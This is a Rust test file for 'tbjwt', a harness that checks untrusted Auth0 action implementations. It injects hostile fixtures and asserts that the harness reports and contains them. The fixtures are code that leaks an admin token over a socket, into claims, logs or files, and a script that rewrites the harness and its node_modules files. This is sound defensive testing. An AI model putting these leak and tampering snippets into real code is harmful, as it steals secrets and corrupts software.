//! The implementation under test is untrusted code: implementations that rewrite the harness's files,
//! leak the admin token by every route, fork and hang, never start, flood the protocol, or print legal
//! but unusual JavaScript text. The harness must stay intact, report each, bound its memory, and leave
//! no process behind.

use std::path::Path;
use std::process::Stdio;
use std::time::{Duration, Instant};

use crate::common::{self, code, text, TempDir};

fn tbjwt_in(dir: &Path, args: &[&str]) -> std::process::Output {
    common::tbjwt().current_dir(dir).args(args).output().unwrap()
}

/// The published action, with `edits` applied (each edit must apply).
fn action_with(edits: &[(&str, &str)]) -> String {
    let mut text =
        std::fs::read_to_string(common::repo_root().join("fixtures/implementations/published/integration.action.js"))
            .unwrap();
    for (from, to) in edits {
        assert!(text.contains(from), "the action holds {from:?}");
        text = text.replacen(from, to, 1);
    }
    text
}

const LAST_LOG: &str = "console.log(`Tinybird JWT token set for user`);";

#[test]
fn every_route_out_for_the_admin_token_is_a_security_finding_that_says_where() {
    let dir = TempDir::new("exfiltration");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut stream = stream;
            let _ = std::io::Read::read(&mut stream, &mut [0u8; 4096]);
        }
    });
    let secret = "event.secrets.TINYBIRD_ADMIN_TOKEN";
    let leak_file = dir.arg("leak.txt");
    let to_listener =
        format!("secret_sent_over_network: TINYBIRD_ADMIN_TOKEN found in a connection to 127.0.0.1:{port}");
    let refused = format!("connects_outside_mocks: the implementation tried to connect to 127.0.0.1:{port} (refused)");
    let network = action_with(&[(
        LAST_LOG,
        &format!(
            "await new Promise((done) => {{ const s = require('net').connect({port}, '127.0.0.1', () => {{ s.end('token=' + {secret}, done); }}); s.on('error', done); }});\n  {LAST_LOG}"
        ),
    )]);
    // (name, action, expected finding, --sandbox): in the sandbox a connection outside the mocks is refused
    // (nothing leaves); without it, what was sent on it is followed.
    let routes: Vec<(&str, String, &str)> = vec![
        (
            "nested_claim",
            action_with(&[(LAST_LOG, &format!("api.idToken.setCustomClaim(\"https://example.com/debug\", {{ nested: {{ key: {secret} }} }});\n  {LAST_LOG}"))]),
            "admin_token_exposed: TINYBIRD_ADMIN_TOKEN found in calls[",
        ),
        (
            "metadata_array",
            action_with(&[(LAST_LOG, &format!("api.user.setAppMetadata(\"debug\", [\"x\", {{ s: [{secret}] }}]);\n  {LAST_LOG}"))]),
            "admin_token_exposed: TINYBIRD_ADMIN_TOKEN found in calls[",
        ),
        (
            "jwt_claims",
            action_with(&[("    scopes,\n", &format!("    scopes,\n    debug: {{ key: {secret} }},\n"))]),
            "(JWT claims)/debug/key",
        ),
        ("network", network.clone(), &refused),
        ("network_unconfined", network, &to_listener),
        (
            "streams",
            action_with(&[(LAST_LOG, &format!("process.stderr.write('debug ' + {secret} + '\\n');\n  {LAST_LOG}"))]),
            "secret_in_output: TINYBIRD_ADMIN_TOKEN found in stdout/stderr write 0",
        ),
        (
            "file",
            action_with(&[(LAST_LOG, &format!("require('fs').writeFileSync({leak_file:?}, {secret});\n  {LAST_LOG}"))]),
            "secret_written_to_file: TINYBIRD_ADMIN_TOKEN found in the file",
        ),
    ];
    let mut problems = Vec::new();
    for (name, source, expected) in &routes {
        let file = format!("leak_{name}.js");
        std::fs::write(dir.path(&file), source).unwrap();
        let report = format!("{name}.jsonl");
        let sandbox = if name.ends_with("_unconfined") { "off" } else { "auto" };
        let out = tbjwt_in(
            &dir.0,
            &[
                "check",
                "--sandbox",
                sandbox,
                &format!("node:{file}"),
                "--no-suite",
                "--cases",
                "5",
                "--seed",
                "2",
                "--no-save",
                "--report",
                &format!("json={report}"),
            ],
        );
        let found = common::security_findings(&dir.path(&report));
        if code(&out) != 1 || !found.iter().any(|f| f.contains(expected)) {
            problems.push(format!("{name}: exit {:?}, findings {found:?}\n{}", out.status.code(), text(&out)));
        }
        if found.iter().any(|f| f.contains("p.")) {
            problems.push(format!("{name}: a finding quotes the secret: {found:?}"));
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n\n"));
}

/// An action that rewrites every harness file it can reach: the runtime script (argv[1]) so that logs are
/// dropped, and every file of the packages it loads.
const TAMPERS: &str = r#"
const fs = require('fs');
const path = require('path');
function rewrite(dir) {
  for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, entry.name);
    if (entry.isDirectory()) rewrite(p);
    else if (entry.isFile() && p.endsWith('.js')) fs.writeFileSync(p, fs.readFileSync(p, 'utf8') + '\n// changed\n');
  }
}
exports.onExecutePostLogin = async () => {
  const runtime = process.argv[1];
  fs.writeFileSync(runtime, fs.readFileSync(runtime, 'utf8').replace('if (current) current.logs.push(util.format(...args));', ''));
  rewrite(path.join(path.dirname(runtime), 'node_modules'));
};
"#;

#[test]
fn an_implementation_that_rewrites_the_harness_is_reported_and_rigs_nothing() {
    let dir = TempDir::new("tampering");
    std::fs::write(dir.path("tampers.js"), TAMPERS).unwrap();
    let cache = dir.arg("cache");
    let run =
        |args: &[&str]| common::tbjwt().current_dir(&dir.0).env("TBJWT_CACHE_DIR", &cache).args(args).output().unwrap();
    // In the sandbox the rewrite is refused and reported, and nothing changes.
    let out = run(&["check", "node:tampers.js", "--no-suite", "--cases", "4", "--no-save"]);
    assert_eq!(code(&out), 1, "{}", text(&out));
    assert!(text(&out).contains("writes_outside_sandbox") && !text(&out).contains("was changed"), "{}", text(&out));
    // Without it, the integrity check is what catches the rewrite.
    let out = run(&["check", "node:tampers.js", "--no-suite", "--cases", "4", "--no-save", "--sandbox", "off"]);
    assert_eq!(code(&out), 1, "{}", text(&out));
    assert!(text(&out).contains("SECURITY") && text(&out).contains("was changed"), "{}", text(&out));
    for leaky in ["logs_the_token.js", "logs_admin_token.js"] {
        let path = common::repo_root().join("fixtures/implementations/deviant").join(leaky);
        let out = run(&["check", &format!("node:{}", path.display()), "--cases", "20", "--no-save"]);
        assert_eq!(code(&out), 1, "{leaky} still fails after the tampering run: {}", text(&out));
        assert!(text(&out).contains("[security]"), "{}", text(&out));
    }
}

/// A protocol program that starts a grandchild (pids appended to `pids`), answers `start`, and on `run`
/// does what its mode says: `hang`, `crash` or `error` (answers errored).
const FORKS: &str = r#"
import json, os, subprocess, sys
mode, pids = sys.argv[1], sys.argv[2]
sleeper = subprocess.Popen(["sleep", "600"])
with open(pids, "a") as f:
    f.write(f"{os.getpid()} {sleeper.pid}\n")
for line in sys.stdin:
    message = json.loads(line)
    if message.get("cmd") == "start":
        print(json.dumps({"ready": True, "name": "forks"}), flush=True)
    elif message.get("cmd") == "run":
        if mode == "hang":
            sys.stdin.readline()
        elif mode == "crash":
            os._exit(9)
        print(json.dumps({"seq": message["seq"], "errored": {"message": "on purpose"}}), flush=True)
    else:
        break
"#;

#[test]
fn no_process_outlives_a_run_however_it_ends() {
    let dir = TempDir::new("leftovers");
    std::fs::write(dir.path("forks.py"), FORKS).unwrap();
    for mode in ["error", "hang", "crash"] {
        let pids = dir.path(&format!("{mode}.pids"));
        let implementation = format!("cmd:python3 forks.py {mode} {}", pids.display());
        // The program tells its pids in a file beside it, which the sandbox would refuse: what is tested
        // here is the process groups (sandbox.rs tests the sandbox's own containment).
        let out = tbjwt_in(
            &dir.0,
            &[
                "check",
                &implementation,
                "--no-suite",
                "--cases",
                "3",
                "--timeout",
                "1",
                "--jobs",
                "2",
                "--no-save",
                "--sandbox",
                "off",
            ],
        );
        assert_eq!(code(&out), 3, "{mode}: {}", text(&out));
        let started: Vec<i32> =
            std::fs::read_to_string(&pids).unwrap().split_whitespace().map(|p| p.parse().unwrap()).collect();
        assert!(!started.is_empty());
        std::thread::sleep(Duration::from_millis(200));
        let left: Vec<i32> = started.into_iter().filter(|p| common::alive(*p)).collect();
        assert!(left.is_empty(), "{mode}: processes left behind: {left:?}");
    }
}

#[test]
fn a_program_that_never_becomes_ready_is_given_up_on_not_waited_for_per_case() {
    let dir = TempDir::new("never-ready");
    std::fs::write(dir.path("mute.py"), "import sys, time\nfor line in sys.stdin:\n    time.sleep(600)\n").unwrap();
    let started = Instant::now();
    let out = tbjwt_in(
        &dir.0,
        &["check", "cmd:python3 mute.py", "--no-suite", "--cases", "20", "--timeout", "1", "--no-save"],
    );
    assert_eq!(code(&out), 3, "{}", text(&out));
    assert!(text(&out).contains("given up on") && text(&out).contains("failed to start 3 times"), "{}", text(&out));
    // Not 20 cases × the start timeout: three failed starts per job, then every case errors at once.
    assert!(started.elapsed() < Duration::from_secs(60), "took {:?}", started.elapsed());
}

#[test]
fn a_gigabyte_without_a_newline_costs_the_harness_a_bounded_amount_of_memory() {
    let dir = TempDir::new("flood");
    std::fs::write(
        dir.path("flood.py"),
        "import json, sys\nfor line in sys.stdin:\n    if json.loads(line).get('cmd') == 'start':\n        print(json.dumps({'ready': True}), flush=True)\n    else:\n        chunk = 'x' * (1 << 20)\n        for _ in range(1024):\n            sys.stdout.write(chunk)\n        sys.stdout.flush()\n",
    )
    .unwrap();
    let child = common::tbjwt()
        .current_dir(&dir.0)
        .args(["check", "cmd:python3 flood.py", "--no-suite", "--cases", "1", "--jobs", "1", "--no-save"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let (status, peak) = common::wait_with_peak_rss(child);
    assert_eq!(status, Some(3));
    eprintln!("peak RSS while a program wrote 1 GiB without a newline: {} MB", peak / 1_000_000);
    assert!(peak < 300_000_000, "peak RSS {} MB", peak / 1_000_000);
}

#[test]
fn unusual_but_legal_outcomes_are_judged_not_errored() {
    let dir = TempDir::new("unusual");
    let half_emoji = action_with(&[(LAST_LOG, "console.log(`Tinybird JWT token set for user ${'😀'.slice(0, 1)}`);")]);
    std::fs::write(dir.path("half_emoji.js"), half_emoji).unwrap();
    let deep = action_with(&[(LAST_LOG, &format!("let deep = 1; for (let i = 0; i < 200; i += 1) deep = [deep];\n  api.user.setAppMetadata('deep', deep);\n  {LAST_LOG}"))]);
    std::fs::write(dir.path("deep.js"), deep).unwrap();
    for action in ["half_emoji.js", "deep.js"] {
        let out = tbjwt_in(&dir.0, &["check", &format!("node:{action}"), "--no-suite", "--cases", "5", "--no-save"]);
        assert_eq!(code(&out), 1, "{action}: {}", text(&out));
        assert!(text(&out).contains("error 0"), "{action}: judged, not errored: {}", text(&out));
    }
    let out = tbjwt_in(&dir.0, &["check", "node:half_emoji.js", "--replay", "happy_path_with_roles"]);
    assert!(text(&out).contains("\\\\ud83d"), "the lone surrogate is shown as its escape: {}", text(&out));
}

#[test]
fn actions_load_from_where_they_are_with_their_siblings_and_dependencies() {
    let dir = TempDir::new("loading");
    let base =
        std::fs::read_to_string(common::repo_root().join("fixtures/implementations/published/integration.action.js"))
            .unwrap();
    // An ES module importing a sibling that imports the bare `jsonwebtoken`.
    std::fs::write(
        dir.path("sign.mjs"),
        "import jwt from 'jsonwebtoken';\nexport const sign = (p, s) => jwt.sign(p, s, { expiresIn: '7d' });\n",
    )
    .unwrap();
    let esm = base
        .replace("const jwt = require(\"jsonwebtoken\");", "import { sign } from './sign.mjs';")
        .replace("exports.onExecutePostLogin =", "export const onExecutePostLogin =")
        .replace("jwt.sign(payload, secret, options)", "sign(payload, secret)");
    std::fs::write(dir.path("action.mjs"), &esm).unwrap();
    // A CommonJS action requiring a sibling that requires the bare `jsonwebtoken`.
    std::fs::write(
        dir.path("signer.js"),
        "const jwt = require('jsonwebtoken');\nexports.sign = (p, s) => jwt.sign(p, s, { expiresIn: '7d' });\n",
    )
    .unwrap();
    let cjs = base
        .replace("const jwt = require(\"jsonwebtoken\");", "const { sign } = require('./signer.js');")
        .replace("jwt.sign(payload, secret, options)", "sign(payload, secret)");
    std::fs::write(dir.path("action.js"), &cjs).unwrap();
    assert!(esm.contains("sign(payload, secret)") && cjs.contains("sign(payload, secret)"));
    for action in ["action.mjs", "action.js"] {
        let out = tbjwt_in(&dir.0, &["check", &format!("node:{action}"), "--cases", "30", "--no-save"]);
        assert_eq!(code(&out), 0, "{action}: {}", text(&out));
    }
    let mut left: Vec<String> =
        std::fs::read_dir(&dir.0).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    left.sort();
    assert_eq!(left, ["action.js", "action.mjs", "sign.mjs", "signer.js"], "nothing is written beside the action");
}

#[test]
fn a_ten_megabyte_user_is_judged_like_any_other_case() {
    let dir = TempDir::new("big-user");
    std::fs::create_dir_all(dir.path("cases")).unwrap();
    let event = serde_json::json!({
        "secrets": {"TINYBIRD_ADMIN_TOKEN": "p.made-up-token"},
        "configuration": {"TINYBIRD_WORKSPACE_ID": "ws", "TINYBIRD_PIPE_NAMES": "a,b"},
        "user": {"user_id": "auth0|big", "blob": "x".repeat(10 * 1024 * 1024)},
        "authorization": {"roles": []}
    });
    std::fs::write(dir.path("cases/big_user.json"), event.to_string()).unwrap();
    let out =
        tbjwt_in(&dir.0, &["check", "reference", "--no-suite", "--fixtures", "cases", "--cases", "0", "--no-save"]);
    assert_eq!(code(&out), 0, "{}", text(&out));
    assert!(text(&out).contains("pass 1"), "{}", text(&out));
}
